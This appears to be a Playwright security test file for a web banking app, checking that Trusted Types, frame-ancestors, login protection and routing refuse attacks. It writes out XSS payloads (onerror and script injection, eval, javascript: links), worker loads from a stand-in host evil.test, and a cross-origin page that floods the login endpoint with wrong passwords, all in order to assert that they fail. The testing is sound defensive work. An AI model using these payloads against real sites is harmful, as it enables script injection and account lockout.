import { paths } from '../../machines/contract/paths.ts';
import { figure } from '../long/promises/figure.ts';
import { placeOrder } from './pages/transfer.ts';
import { bagas, logIn, openAccount, openAs, expect, test } from './support/fixtures.ts';
import { openStaticHost } from './support/static-host.ts';

test(
  'Trusted Types and the policy refuse what a script in the page injects [S3]',
  { tag: '@once' },
  async ({ page, pageErrors }) => {
    await openAs(page, '/transfer', bagas);
    // On the PIN page the app has created its one Trusted Types policy.
    await placeOrder(page);
    const asked = await page.waitForFunction(
      () =>
        performance.getEntriesByType('resource').find(({ name }) => name.includes('pin.worker'))
          ?.name,
    );
    const worker = (await asked.jsonValue()) ?? '';
    const tried = await page.evaluate(async (pinWorker) => {
      const evil = 'window.slipped = true';
      const markup = `<img src="x" onerror="${evil}"><script>${evil}</script>`;
      const make = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag) =>
        document.body.appendChild(document.createElement(tag));
      const workers = [
        pinWorker,
        '/assets/axios.js',
        'https://evil.test/w.js',
        `data:text/javascript,${evil}`,
        URL.createObjectURL(new Blob([evil], { type: 'text/javascript' })),
        '//evil.test/w.js',
      ];
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      const rules = { createHTML: String, createScript: String, createScriptURL: String };
      const attempts: Record<string, () => unknown> = {
        innerHTML: () => (make('div').innerHTML = markup),
        outerHTML: () => (make('div').outerHTML = markup),
        insertAdjacentHTML: () => make('div').insertAdjacentHTML('beforeend', markup),
        'document.write': () => document.write(markup),
        srcdoc: () => (make('iframe').srcdoc = markup),
        'setAttribute srcdoc': () => make('iframe').setAttribute('srcdoc', markup),
        'script.src': () => (make('script').src = '/assets/axios.js'),
        'script.text': () => (make('script').text = evil),
        'script.textContent': () => (make('script').textContent = evil),
        DOMParser: () => new DOMParser().parseFromString(markup, 'text/html'),
        createContextualFragment: () => document.createRange().createContextualFragment(markup),
        setHTMLUnsafe: () => make('div').setHTMLUnsafe(markup),
        'setAttribute onclick': () => make('div').setAttribute('onclick', evil),
        // oxlint-disable-next-line no-eval -- the attempt under test
        eval: () => (0, eval)(evil),
        // oxlint-disable-next-line typescript/no-implied-eval -- the attempt under test
        'new Function': () => new Function(evil)() as unknown,
        // oxlint-disable-next-line typescript/no-implied-eval -- the attempt under test
        'setTimeout of text': () => setTimeout(evil),
        'serviceWorker.register': () => navigator.serviceWorker.register('/assets/axios.js'),
        'createPolicy of another name': () => trustedTypes.createPolicy('evil', rules),
        'createPolicy of the default': () => trustedTypes.createPolicy('default', rules),
        'createPolicy of the same name': () => trustedTypes.createPolicy('pin-worker', rules),
        ...Object.fromEntries(
          workers.map((url) => [`new Worker(${url.slice(0, 30)})`, () => new Worker(url)]),
        ),
      };
      const slipped: string[] = [];
      // From a timer, like the page's own scripts: code that a debugger evaluates is exempt.
      await new Promise<void>((resolve) =>
        setTimeout(() => {
          const answers = Object.entries(attempts).map(async ([name, attempt]) => {
            try {
              await attempt();
              slipped.push(name);
            } catch {
              // Refused, as expected.
            }
          });
          void Promise.all(answers).then(() => resolve());
        }),
      );
      Object.assign(make('a'), { href: `javascript:${evil}` }).click();
      await new Promise((resolve) => setTimeout(resolve));
      console.error('policy: all tried');
      return { count: Object.keys(attempts).length + 1, slipped, ran: 'slipped' in window };
    }, worker);
    expect(tried.slipped).toEqual([]);
    expect(tried.ran).toBe(false);
    // A driver reports them later, in their order.
    await expect.poll(() => pageErrors.at(-1)).toContain('all tried');
    expect(pageErrors.length).toBeGreaterThan(10);
    expect(pageErrors.splice(0).filter((line) => !/^console: |evil\.test/.test(line))).toEqual([]);
    figure('S3', `${tried.count} of ${tried.count} attempts refused`);
  },
);

test(
  'a page of another origin cannot frame any route [S5]',
  { tag: '@once' },
  async ({ page, baseURL, pageErrors }) => {
    const routes = [...Object.values(paths), '/alamat-yang-tidak-ada'];
    const frames = routes.map((route) => `<iframe src="${baseURL}${route}"></iframe>`).join('');
    const host = await openStaticHost((path) => [
      'text/html',
      path === '/framed' ? 'mine' : `<iframe src="/framed"></iframe>${frames}`,
    ]);
    try {
      await page.goto(host.address);
      const [own, ...others] = page.frames().slice(1);
      expect(await own?.locator('body').innerText()).toBe('mine');
      expect(others).toHaveLength(routes.length);
      for (const frame of others) {
        await expect
          .poll(() => frame.url())
          .toMatch(/^chrome-error:|^about:neterror\?e=cspBlocked/);
        expect(await frame.title()).not.toContain('Lentera');
      }
      expect(
        pageErrors
          .splice(0)
          .every((line) =>
            /frame-ancestors|X-Frame-Options|^request to http:\/\/127\.0\.0\.1/i.test(line),
          ),
      ).toBe(true);
      figure(
        'S5',
        `${others.length} of ${routes.length} routes blank, while a page of one's own is framed`,
      );
    } finally {
      host.close();
    }
  },
);

test(
  'a page of another port cannot lock its visitor out [S42]',
  { tag: '@once' },
  async ({ page, request, baseURL, pageErrors }) => {
    const person = await openAccount(request);
    const login = `${baseURL}/api/main/auth/login`;
    const body = `email=${encodeURIComponent(person.email)}&password=Salah1234`;
    const form = `<form method="post" action="${login}"><input name="email" value="${person.email}"><input name="password" value="Salah1234"></form>`;
    const attack = (head: string) =>
      `${head}<script>for (let at = 0; at < 10; at += 1) {
        fetch('${login}', { method: 'POST', mode: 'no-cors', body: new URLSearchParams('${body}') });
        const frame = document.body.appendChild(document.createElement('iframe'));
        frame.contentDocument.body.innerHTML = '${form}';
        frame.contentDocument.forms[0].submit();
      }</script>`;
    const host = await openStaticHost((path) =>
      path === '/jahat'
        ? ['text/html', attack('<body>')]
        : path === '/tanpa-asal'
          ? ['text/html', attack('<meta name="referrer" content="no-referrer"><body>')]
          : null,
    );
    let ended = 0;
    for (const event of ['requestfinished', 'requestfailed'] as const)
      page.on(event as 'requestfailed', (sent) => void (ended += Number(sent.url() === login)));
    try {
      for (const path of ['/jahat', '/tanpa-asal']) {
        ended = 0;
        await page.goto(host.address + path);
        await expect.poll(() => ended).toBe(20);
      }
    } finally {
      host.close();
    }
    await logIn(page, person);
    pageErrors.splice(0);
    figure('S42', "40 posts by another port's pages: 0 counted, the owner logs in");
  },
);

test(
  'an address that begins with several slashes opens a page of the app, not another host [L2]',
  { tag: '@once' },
  async ({ page, baseURL }) => {
    const addresses = {
      '//evil.test/': ['/evil.test', 'Halaman tidak ditemukan'],
      '/\\evil.test/': ['/evil.test', 'Halaman tidak ditemukan'],
      '///evil.test//?x=1': ['/evil.test?x=1', 'Halaman tidak ditemukan'],
      '//login': ['/login', 'Selamat Datang,'],
      '//dashboard': ['/login', 'Selamat Datang,'],
    } as const;
    for (const [address, [shown, heading]] of Object.entries(addresses)) {
      await page.goto(`${baseURL}${address}`);
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(heading);
      await expect(page).toHaveURL(shown);
    }
    figure('L2', `${Object.keys(addresses).length} addresses shown as pages of the app`);
  },
);
